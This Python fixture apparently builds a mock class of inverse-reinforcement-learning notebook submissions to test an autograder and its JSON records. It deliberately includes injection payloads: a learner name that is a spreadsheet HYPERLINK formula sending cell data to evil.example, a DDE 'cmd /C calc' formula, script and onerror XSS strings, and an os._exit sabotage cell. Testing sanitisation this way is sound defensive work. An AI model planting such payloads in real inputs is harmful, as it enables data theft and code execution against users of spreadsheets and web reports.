"""A small class that hands in lessons 01 and 03, and the records that marking it really gives."""

import glob
import hashlib
import json
from pathlib import Path

from irl_course import checks
from irl_course.classroom import marking, submission
from irl_course.classroom.submission import Submission
from irl_course.classroom.worker import Warm

ROOT = Path(submission.__file__).parents[2]
LESSONS = ("01", "03")
SEED = 7
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"<b>click</b>")'
UNTOUCHED = None  # leave the lesson's stub as it was

# What learners do wrong: by exercise, each a replacement in the right answer, or another answer.
NORMALISED = ("return rho[:, None] * pi", "return rho[:, None] * pi * (1 - mdp.gamma)")
NOT_TRANSPOSED = ("P_pi.T, mdp.initial_dist", "P_pi, mdp.initial_dist")
NO_DISCOUNT = ("mdp.gamma * (mdp.P @ V)", "(mdp.P @ V)")
VALUES_ONLY = ("np.eye(mdp.n_actions)[Q.argmax(axis=1)]", "Q * 0 + 1 / mdp.n_actions")
NOT_HELD = ("np.clip(share, 0, 1) * towards", "share * towards")
SUMMED = ("seen.mean(axis=0)", "seen.sum(axis=0)")
SQUARED = ("np.linalg.norm(expert - learner)", "np.linalg.norm(expert - learner) ** 2")
CRASH = ("return features @ psi", "weights = psi / psi.total()\n    return features @ weights")
SHAPE = ("return features @ psi", "return psi @ features")
EXIT = (
    "return float(mdp.initial_dist",
    "import os; os._exit(0)\n    return float(mdp.initial_dist",
)
LAST_POLICY = (
    "return np.stack(policies), weights,",
    "return np.stack(policies[-1:]), weights[-1:],",
)

_OWN_EVALUATION = '''
def policy_evaluation(mdp, reward, pi):
    """My own way."""
    {chain} = np.zeros((mdp.n_states, mdp.n_states))
    {income} = np.zeros(mdp.n_states)
    for {s} in range(mdp.n_states):
        for {a} in range(mdp.n_actions):
            {income}[{s}] += pi[{s}, {a}] * reward[{s}, {a}]
            {chain}[{s}] = {chain}[{s}] + pi[{s}, {a}] * mdp.P[{s}, {a}]
    {lhs} = np.identity(mdp.n_states) - mdp.gamma * {chain}
    return np.matmul(np.linalg.inv({lhs}), {income}.reshape(-1, 1)).ravel()
'''
_OWN_OCCUPANCY = '''
def occupancy(mdp, pi):
    """Crowds, one round after the other."""
    {crowd}, {total}, {factor} = mdp.initial_dist.copy(), np.zeros(pi.shape), 1.0
    while {factor} > 1e-13:
        {flow} = {crowd}[:, np.newaxis] * pi
        {total} += {factor} * {flow}
        {crowd} = np.tensordot({flow}, mdp.P, axes=([0, 1], [0, 1]))
        {factor} *= mdp.gamma
    return {total}
'''
_NAMES = ("chain", "income", "s", "a", "lhs", "crowd", "total", "factor", "flow")


def _own(words):
    names = dict(zip(_NAMES, words.split(), strict=True))
    return {
        "policy_evaluation": _OWN_EVALUATION.format(**names),
        "occupancy": _OWN_OCCUPANCY.format(**names),
    }


_HOSTILE = """print("<script>document.title = 'owned'</script>")
print("\\x1b[31mred\\x1b[0m \\u202egnirts\\u202c <img src=x onerror=alert(1)> ]]> -->")
print("=1+1\\n+cmd|' /C calc'!A0\\n@SUM(A1)\\n-2")
raise ValueError("</pre><script>alert('x')</script><svg onload=alert(1)> & \\x00\\x08 \\ufffe")"""

# learner: file name, answers, further cells
CLASS = {
    "Ada Lovelace": ("lovelaceada_101_5001_03.ipynb", {}, ""),
    "Zoë Müller-Łukasiewicz 王小明": (
        "müllerzoë_102_5002_03.ipynb",
        {
            "occupancy": NORMALISED,
            "value_iteration": VALUES_ONLY,
            "projection_step": NOT_HELD,
            "best_mixture": UNTOUCHED,
        },
        "",
    ),
    "Bo Ek": (
        "ekbo_103_5003_03.ipynb",
        {
            "bellman_backup": NO_DISCOUNT,
            "occupancy": NOT_TRANSPOSED,
            "linear_reward": CRASH,
            "empirical_feature_expectations": SUMMED,
            "apprenticeship_learning": LAST_POLICY,
        },
        "print('my helpers are loaded')",
    ),
    EVIL: (
        "hyperlink_104_5004_03.ipynb",
        {
            "occupancy": "def occupancy(mdp, pi):\n    raise ValueError("
            "\"</pre><script>document.title = 'owned'</script>=1+1 \\x07 \\ufffe\")",
            "linear_reward": ("return features @ psi", "return '<script>alert(1)</script>'"),
        },
        _HOSTILE,
    ),
    "Eve O'Malley": (
        "omalleyeve_LATE_105_5005_03.ipynb",
        {"value_iteration": VALUES_ONLY, "expected_return": EXIT, "occupancy": NORMALISED},
        "import sys\nlen(sys.modules)",
    ),
    "Cy Young": ("youngcy_106_5006_03.ipynb", _own("T r s a A d rho g now"), ""),
    "Dan Brown": (
        "browndan_107_5007_03.ipynb",
        _own("moves gains i j matrix crowd sum_ discount stream")
        | {"performance_gap_bound": SQUARED},
        "",
    ),
    "Fay Wray": (
        "wrayfay_108_5008_03.ipynb",
        {"occupancy": NORMALISED, "linear_reward": SHAPE},
        "",
    ),
    "Gus Grissom": ("grissomgus_109_5009_03.ipynb", dict.fromkeys(checks.exercises()), ""),
    "Hal Finney": (
        "finneyhal_110_5010_03.ipynb",
        {"best_mixture": UNTOUCHED, "apprenticeship_learning": UNTOUCHED, "occupancy": NORMALISED},
        "",
    ),
    "Ivy Lee": (
        "leeivy_111_5011_03.ipynb",
        {"projection_step": NOT_HELD, "bellman_backup": "def"},
        "",
    ),
    "محمد بن موسى": ("mohammed_112_5012_03.ipynb", {"empirical_feature_expectations": SUMMED}, ""),
}
UNREADABLE = {"Ursula Broke": b"PK\x03\x04 this is a <b>zip</b>"}
MISSING = ["Max Absent"]


def notebook(lesson, answers, more=""):
    """A lesson as handed in: right but for these answers, with one cell more at its front."""
    (right,) = glob.glob(str(ROOT / "solutions" / f"{lesson}_*.ipynb"))
    (stub,) = glob.glob(str(ROOT / "lessons" / f"{lesson}_*.ipynb"))
    content = json.loads(Path(right).read_text("utf-8"))
    stubs = {cell["id"]: cell for cell in json.loads(Path(stub).read_text("utf-8"))["cells"]}
    for cell in content["cells"]:
        if cell["id"] not in answers or cell["id"] not in checks.exercises(lesson):
            continue
        change = answers[cell["id"]]
        if change is UNTOUCHED:
            cell["source"] = stubs[cell["id"]]["source"]
        elif isinstance(change, tuple):
            source = "".join(cell["source"])
            assert change[0] in source, change
            cell["source"] = source.replace(*change)
        else:
            cell["source"] = change
    if more:
        cell = {"cell_type": "code", "id": "mine", "metadata": {}, "source": more}
        content["cells"].insert(0, cell | {"outputs": [], "execution_count": None})
    return json.dumps(content).encode()


def record(learner, file, contents, warm):
    """What the batch keeps of one learner."""
    kept = {"version": 1, "learner": learner, "file": file, "status": "graded", "reason": "",
            "lessons": {}, "sources": {}, "points": 0, "max_points": 0}  # fmt: skip
    kept["key"] = hashlib.sha256(repr(sorted(contents.items())).encode()).hexdigest()
    for lesson, content in contents.items():
        read = submission.read(content, lesson, learner)
        if not isinstance(read, Submission):
            return kept | {"status": "unreadable", "reason": read.reason, "lessons": {}}
        marks = marking.mark(read, warm, SEED)
        kept["points"] += marks.points
        kept["max_points"] += marks.max_points
        kept["lessons"][lesson] = {
            "points": marks.points,
            "max_points": marks.max_points,
            "level": marks.level,
            "exercises": [result.as_dict() for result in marks.results],
            "problems": list(marks.problems),
            "cells": [vars(cell) for cell in marks.cells],
        }
        kept["sources"][lesson] = {
            name: cell.source for cell in read.cells for name in cell.answers
        }
    return kept


def write_class(out):
    """Mark the class; its records go to OUT/records."""
    folder = Path(out) / "records"
    folder.mkdir(parents=True)
    with Warm() as warm:
        kept = [
            record(learner, file, {n: notebook(n, answers, more) for n in LESSONS}, warm)
            for learner, (file, answers, more) in CLASS.items()
        ]
        kept += [
            record(learner, "Ursula Broke_77_assignsubmission_file_/03.ipynb", {"03": data}, warm)
            for learner, data in UNREADABLE.items()
        ]
    kept += [
        {"version": 1, "learner": learner, "file": "", "status": "missing", "lessons": {},
         "reason": "Nothing was handed in.", "points": 0, "max_points": 0, "key": ""}
        for learner in MISSING
    ]  # fmt: skip
    for number, each in enumerate(kept, 1):
        name = "".join(sign if sign.isalnum() else "_" for sign in each["learner"])[:40]
        text = json.dumps(each, sort_keys=True, indent=1, ensure_ascii=False) + "\n"
        (folder / f"{number:02}_{name}.json").write_text(text, "utf-8", newline="\n")
